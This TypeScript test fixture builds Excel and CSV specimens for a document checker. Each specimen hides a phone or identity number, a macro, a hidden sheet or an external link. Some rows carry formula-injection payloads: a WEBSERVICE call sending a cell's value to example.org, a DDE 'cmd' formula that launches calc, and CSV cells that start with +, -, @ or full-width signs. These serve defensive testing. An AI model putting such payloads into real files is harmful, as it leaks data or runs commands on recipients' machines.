/** Excel and CSV files as people send them, each with one thing too much. */
import { docx, jpeg, packageOf, xlsx } from '../helpers/documents.ts';
import { each, IDENTITY, MOBILE, named } from './specimen.ts';

const excel = named('a.xlsx');
const csv = named('a.csv');
const row = (cells: string, attributes = 'r="1"') => `<row ${attributes}>${cells}</row>`;
const text = (said: string) => `<c t="inlineStr"><is><t>${said}</t></is></c>`;
const part = (name: string, xml: string, says?: string) =>
  excel(name, xlsx(row(text('甲')), [name, xml]), says);
const table = (title: string, rows: string, says?: string) =>
  csv(title, Buffer.from(`月份,件数\n${rows}\n`), says);

export const SHEETS = [
  excel('a number in a cell', xlsx(row(`<c><v>${MOBILE}</v></c>`))),
  excel('a number as a long figure', xlsx(row('<c><v>1.3800138E10</v></c>'))),
  excel(
    'a number in rich text',
    xlsx(row('<c t="inlineStr"><is><r><t>1380</t></r><r><t>0138000</t></r></is></c>')),
  ),
  excel('digits one to a cell', xlsx(row(each(IDENTITY, text)))),
  excel(
    'a shared text',
    xlsx(row('<c t="s"><v>0</v></c>'), ['xl/sharedStrings.xml', `<sst><si><t>${MOBILE}</t></si></sst>`]),
  ),
  excel(
    'a shared text that no cell shows',
    xlsx(row(text('甲')), ['xl/sharedStrings.xml', `<sst><si><t>${MOBILE}</t></si></sst>`]),
  ),
  excel(
    'shared texts in a part of another name',
    xlsx(row('<c t="s"><v>0</v></c>'), ['xl/zz.xml', `<x:sst><x:si><x:t>${MOBILE}</x:t></x:si></x:sst>`]),
  ),
  excel(
    'a sheet under another name and prefix',
    xlsx(row(text('甲')), [
      'xl/worksheets/other.xml',
      `<x:worksheet><x:row><x:c><x:v>${MOBILE}</x:v></x:c></x:row></x:worksheet>`,
    ]),
  ),
  excel('a number in a formula', xlsx(row(`<c><f>"tel"&amp;"${MOBILE}"</f><v>0</v></c>`))),
  excel(
    'a number in the head of the print',
    xlsx(`${row(text('甲'))}<headerFooter><oddHeader>${MOBILE}</oddHeader></headerFooter>`),
  ),
  excel('a number in a message of a cell', xlsx(`${row(text('甲'))}<dataValidation prompt="${MOBILE}"/>`)),
  part(
    'xl/pivotCache/pivotCacheRecords1.xml',
    `<pivotCacheRecords><r><s v="${MOBILE}"/></r></pivotCacheRecords>`,
  ),
  part(
    'xl/pivotCache/pivotCacheDefinition1.xml',
    '<pivotCacheDefinition><sharedItems><n v="1.3800138E10"/></sharedItems></pivotCacheDefinition>',
  ),
  part('xl/externalLinks/externalLink1.xml', '<externalLink/>', '外面'),
  part('xl/connections.xml', '<connections/>', '外面'),
  part('xl/queryTables/queryTable1.xml', '<queryTable/>', '外面'),
  part('xl/drawings/drawing1.xml', `<xdr:wsDr><a:p><a:r><a:t>${MOBILE}</a:t></a:r></a:p></xdr:wsDr>`),
  part('xl/comments1.xml', '<comments><commentList><comment ref="A1"/></commentList></comments>', '批注'),
  part(
    'xl/threadedComments/threadedComment1.xml',
    '<ThreadedComments><threadedComment/></ThreadedComments>',
    '批注',
  ),
  part('xl/revisions/revisionLog1.xml', '<revisions/>', '修订'),
  part('xl/macrosheets/sheet1.xml', '<xm:macrosheet/>', '宏'),
  part('xl/worksheets/dialog.xml', '<dialogsheet/>', '宏'),
  part('xl/ctrlProps/ctrlProp1.xml', '<formControlPr/>', '控件'),
  part('xl/model/item.data', 'x', '检查不了'),
  part('xl/names.xml', '<definedName name="_xlnm.Auto_Open">a</definedName>', '宏'),
  part('xl/printerSettings/printerSettings1.bin', `printer of ${MOBILE} `),
  excel('a hidden row under a prefix', xlsx("<x:row r='1' hidden='1'/>"), '隐藏的行'),
  excel('a hidden column', xlsx('<cols><col min="2" hidden="true"/></cols>'), '隐藏的行'),
  excel(
    'a sheet that is very hidden',
    packageOf(['xl/workbook.xml', '<x:sheet state="veryHidden"/>']),
    '隐藏的工作表',
  ),
  excel(
    'a formula that asks a server',
    xlsx(row('<c><f>WEBSERVICE("https://example.org/"&amp;A1)</f></c>')),
    '外面',
  ),
  excel('a formula that asks another program', xlsx(row("<c><f>cmd|'/c calc'!A1</f></c>")), '外面'),
  excel(
    'the place of a photo in it',
    xlsx(row(text('甲')), ['xl/media/image1.jpeg', jpeg(0x8825)]),
    '拍摄的位置',
  ),
  excel(
    'a document behind a cell',
    xlsx(row(text('甲')), ['xl/embeddings/a.docx', docx(`<w:p><w:t>${MOBILE}</w:t></w:p>`)]),
  ),
  table('a number', `甲,${MOBILE}`),
  table('digits one to a cell in a table', [...IDENTITY].join(',')),
  table('a formula', '=1+1,2', '公式'),
  table('a formula that begins with a plus', '+cmd|a,2', '公式'),
  table('a formula that begins with a minus', '-2+3,2', '公式'),
  table('a function of an old program', '@SUM(A1),2', '公式'),
  table('a wide sign of equality', '＝1+1,2', '公式'),
  table('a wide plus', '＋甲,2', '公式'),
  table('a wide minus', '－甲,2', '公式'),
  table('a wide at', '＠甲,2', '公式'),
  table('a formula within quotes', '"=1+1",2', '公式'),
  table('a formula behind blanks', '  =1+1,2', '公式'),
  table('a tab before a formula', '"\t=1+1",2', '公式'),
  table('a return before a formula', '"\r=1+1",2', '公式'),
  table('cells parted by semicolons', '甲;=1+1;2', '公式'),
  table('quotes without an end', '"甲,2', '引号'),
  csv('cells parted as the file says', Buffer.from('sep=|\n甲|=1\n'), '公式'),
];
